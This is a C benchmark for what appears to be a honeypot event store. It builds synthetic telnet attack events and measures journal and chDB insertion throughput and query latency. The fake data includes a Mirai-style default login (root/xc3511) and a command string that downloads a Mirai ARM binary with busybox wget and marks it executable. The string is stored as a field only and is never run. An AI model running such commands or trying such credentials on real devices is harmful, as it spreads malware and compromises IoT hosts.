/*
 * How many events a second the store takes, with the real schema.
 *
 *    store [BATCHES] [EVENTS A BATCH]
 *
 * Events of an attack's usual mixture (a session, a login with its password, three
 * commands, its end, a decision, a probe, an answer, an identification) go the whole way
 * from frames of the journal to tables in chDB: decoding, rows, inserts with their names,
 * syncs and merges; the journal is measured alone, too.  The last line is JSON.
 */
#include "base/clock.h"
#include "store/insertion.h"
#include <fcntl.h>
#include <stdlib.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>

#define MIXTURE 10

static struct event event; /* large */
static struct id_maker ids = {1, 0};
static uint8_t frame_room[FRAME_MAX];

static double cpu_seconds(void)
{
	struct rusage r;
	getrusage(RUSAGE_SELF, &r);
	return (double)r.ru_utime.tv_sec + (double)r.ru_stime.tv_sec +
	       (double)(r.ru_utime.tv_usec + r.ru_stime.tv_usec) / 1e6;
}

static void begin(enum event_kind kind, uint64_t n)
{
	struct address src = address_v4(0x0b000000u + (uint32_t)(n / MIXTURE * 2654435761u >> 8));
	struct address dst = address_v4(0xc0000200u + (uint32_t)(n / MIXTURE % 148));
	event_begin(&event, kind);
	event.time_us = 1700000000000000u + n * 10;
	event.id = id_make(&ids, event.time_us);
	event_set_address(&event, FIELD_SRC, &src);
	event_set_number(&event, FIELD_SPORT, 1024 + n * 7919 % 60000);
	event_set_address(&event, FIELD_DST, &dst);
	event_set_number(&event, FIELD_DPORT, 23);
	event_set_text(&event, FIELD_PROTO, "tcp");
	event_set_text(&event, FIELD_SENSOR, "sensor-1");
	event_set_text(&event, FIELD_PROCESS, "passive");
	event_set_number(&event, FIELD_SEQUENCE, n);
	event_set_number(&event, FIELD_RECEIVED, event.time_us + 120);
	if (n % MIXTURE) {
		struct event_id cause = event.id;
		cause.b[15] ^= 1;
		event_set_id(&event, FIELD_SESSION, &cause);
		event_set_chain(&event, &cause, &cause, 1);
	}
}

static void command(const char *line)
{
	event_set_bytes(&event, FIELD_COMMAND_LINE, bytes_of_text(line));
	event_set_bool(&event, FIELD_COMMAND_FOUND, true);
}

static struct bytes make(uint64_t n)
{
	static const enum event_kind kinds[MIXTURE] = {
		EVENT_SESSION_OPENED, EVENT_LOGIN_TRIED, EVENT_COMMAND_SENT, EVENT_COMMAND_SENT,
		EVENT_COMMAND_SENT, EVENT_SESSION_CLOSED, EVENT_DECISION_MADE, EVENT_PROBE_SENT,
		EVENT_HOST_ANSWERED, EVENT_HOST_IDENTIFIED};
	enum event_kind kind = kinds[n % MIXTURE];
	begin(kind, n);
	event_set_text(&event, n % MIXTURE < 6 ? FIELD_SERVICE : FIELD_PROBE, "telnet");
	if (kind == EVENT_LOGIN_TRIED) {
		event_set_bytes(&event, FIELD_LOGIN_USER, BYTES("root"));
		event_set_bytes(&event, FIELD_LOGIN_SECRET, BYTES("xc3511"));
		event_set_bool(&event, FIELD_LOGIN_ACCEPTED, true);
	} else if (kind == EVENT_COMMAND_SENT) {
		command("/bin/busybox wget http://198.51.100.7/bins/mirai.arm7 -O - > .t; chmod 777 .t");
	} else if (kind == EVENT_SESSION_CLOSED) {
		event_set_number(&event, FIELD_DURATION, n * 31 % 9000000);
		event_set_number(&event, FIELD_BYTES_IN, n % 3000);
		event_set_number(&event, FIELD_BYTES_OUT, n % 9000);
	} else if (kind == EVENT_DECISION_MADE) {
		event_set_text(&event, FIELD_DECISION, "allowed");
		event_set_text(&event, FIELD_BASIS, "handshake");
		event_set_text(&event, FIELD_RULE, "login");
	} else if (kind == EVENT_HOST_ANSWERED) {
		event_set_text(&event, FIELD_STATE, "open");
		event_set_bytes(&event, FIELD_BANNER, BYTES("\r\nDVR login: "));
		event_set_number(&event, FIELD_LATENCY, n % 90000);
	} else if (kind == EVENT_HOST_IDENTIFIED) {
		event_set_text(&event, FIELD_DEVICE_CLASS, "DVR");
		event_set_text(&event, FIELD_DEVICE_VENDOR, "Example");
		event_set_text(&event, FIELD_DEVICE_PRODUCT, "DVR-16");
	}
	struct writer w = writer_of(frame_room, sizeof frame_room);
	frame_encode(&event, &w);
	return writer_bytes(&w);
}

static void die(const struct fault *fault)
{
	fprintf(stderr, "%s\n", fault->text);
	exit(1);
}

static void fill(struct journal *j, uint64_t events, uint32_t group, double *seconds, struct fault *fault)
{
	uint64_t spent_us = 0;
	for (uint64_t n = 0; n < events; n++) {
		struct bytes frame = make(n);
		uint64_t t = clock_mono_us();
		if (journal_add(j, frame) || ((n + 1) % group == 0 && journal_commit(j, 0, fault)))
			die(fault);
		spent_us += clock_mono_us() - t;
	}
	if (journal_commit(j, 0, fault))
		die(fault);
	*seconds = (double)spent_us / 1e6;
}

struct store_figures {
	double wall, cpu;
	uint64_t rows;
};

static void insert_all(struct journal *j, struct engine *e, struct store_figures *out, struct fault *fault)
{
	struct insertion insertion;
	struct batch b;
	struct buffer head = BUFFER(SEGMENT_HEAD_MAX), groups = BUFFER(2 * BATCH_BYTES_MAX);
	double cpu = cpu_seconds();
	uint64_t t = clock_mono_us();
	if (insertion_open(&insertion))
		exit(1);
	while (journal_batch(j, &b, fault) == 0) {
		buffer_consume(&head, buffer_len(&head));
		buffer_consume(&groups, buffer_len(&groups));
		if (journal_batch_read(j, &b, &head, &groups, fault) ||
		    insertion_run(&insertion, e, &b, buffer_bytes(&head), buffer_bytes(&groups), fault) ||
		    journal_batch_done(j, &b, fault))
			die(fault);
	}
	*out = (struct store_figures){(double)(clock_mono_us() - t) / 1e6, cpu_seconds() - cpu, insertion.rows};
	insertion_close(&insertion);
}

static int collect(void *arg, struct bytes part) { return buffer_append(arg, part.at, part.len); }

/* Milliseconds of the question at its third asking. */
static double ask_ms(struct engine_reader *r, const char *sql, struct fault *fault)
{
	double ms = 0;
	for (int i = 0; i < 3; i++) {
		struct buffer answer = BUFFER(8 << 20);
		uint64_t t = clock_mono_us();
		if (engine_ask(r, bytes_of_text(sql), ANSWER_LINES, false, collect, &answer, fault))
			die(fault);
		ms = (double)(clock_mono_us() - t) / 1e3;
		buffer_done(&answer);
	}
	return ms;
}

static double bytes_a_row(struct engine *e, struct fault *fault)
{
	struct buffer answer = BUFFER(4096);
	uint64_t n = 0;
	if (engine_run_text(e, "SELECT toUInt64(sum(bytes_on_disk) * 10 / sum(rows)) FROM system.parts WHERE "
			       "database = 'kansoku' AND table = 'events' AND active", &answer, fault))
		die(fault);
	bytes_number(bytes_trim(buffer_bytes(&answer)), UINT64_MAX, &n);
	buffer_done(&answer);
	return (double)n / 10;
}

int main(int argc, char **argv)
{
	uint64_t batches = argc > 1 ? strtoull(argv[1], NULL, 10) : 100;
	uint32_t batch = argc > 2 ? (uint32_t)strtoul(argv[2], NULL, 10) : 10000;
	char place[64] = "/tmp/kansoku-bench-XXXXXX", tables[80], folder[80];
	static struct chdb chdb;
	struct engine *engine;
	struct engine_reader *reader;
	struct journal *journal;
	struct journal_report report;
	struct fault fault = {0};
	struct store_figures figures;
	double journal_s;
	const struct engine_limits limits = {60000, (uint64_t)2 << 30, 64 << 20, 2};
	const struct journal_limits journal_limits = {
		.segment_bytes = 64 << 20, .segment_age_us = UINT64_MAX / 4, .batch_frames = batch};
	if (!mkdtemp(place) || event_start(&fault) || chdb_open(&chdb, NULL, &fault))
		die(&fault);
	snprintf(tables, sizeof tables, "%s/tables", place);
	snprintf(folder, sizeof folder, "%s/journal", place);
	mkdir(folder, 0700);
	if (journal_open(&journal, open(folder, O_RDONLY | O_DIRECTORY), &journal_limits, 0, &report, &fault) ||
	    engine_open(&engine, &chdb, tables, &limits, &fault) || engine_prepare(engine, &fault) ||
	    engine_reader_open(&reader, engine, &fault))
		die(&fault);
	uint64_t events = batches * batch;
	fill(journal, events, 1000, &journal_s, &fault);
	insert_all(journal, engine, &figures, &fault);
	double top_ms = ask_ms(reader, "SELECT ip(src) AS a, count() AS n FROM events GROUP BY src ORDER BY n DESC "
				       "LIMIT 20", &fault);
	double one_ms = ask_ms(reader, "SELECT count() FROM events WHERE src = addr('11.0.0.0')", &fault);
	double array_ms = ask_ms(reader, "SELECT value[indexOf(field,'command.line')] AS l, count() AS n FROM "
					 "events WHERE kind = 'command.sent' GROUP BY l ORDER BY n DESC LIMIT 10",
				 &fault);
	printf("%llu events: journal %.0f/s with a sync every 1000; store %.0f/s wall, %.0f/s a CPU second\n",
	       (unsigned long long)events, (double)events / journal_s, (double)events / figures.wall,
	       (double)events / figures.cpu);
	printf("{\"events\":%llu,\"batch\":%u,\"journal_events_s\":%.0f,\"store_events_s\":%.0f,"
	       "\"store_events_cpu_s\":%.0f,\"bytes_a_row\":%.1f,\"top20_ms\":%.1f,\"one_source_ms\":%.1f,"
	       "\"arrays_ms\":%.1f}\n", (unsigned long long)figures.rows, batch, (double)events / journal_s,
	       (double)events / figures.wall, (double)events / figures.cpu, bytes_a_row(engine, &fault), top_ms,
	       one_ms, array_ms);
	fflush(stdout);
	execl("/bin/rm", "rm", "-rf", place, (char *)NULL);
	return 1;
}
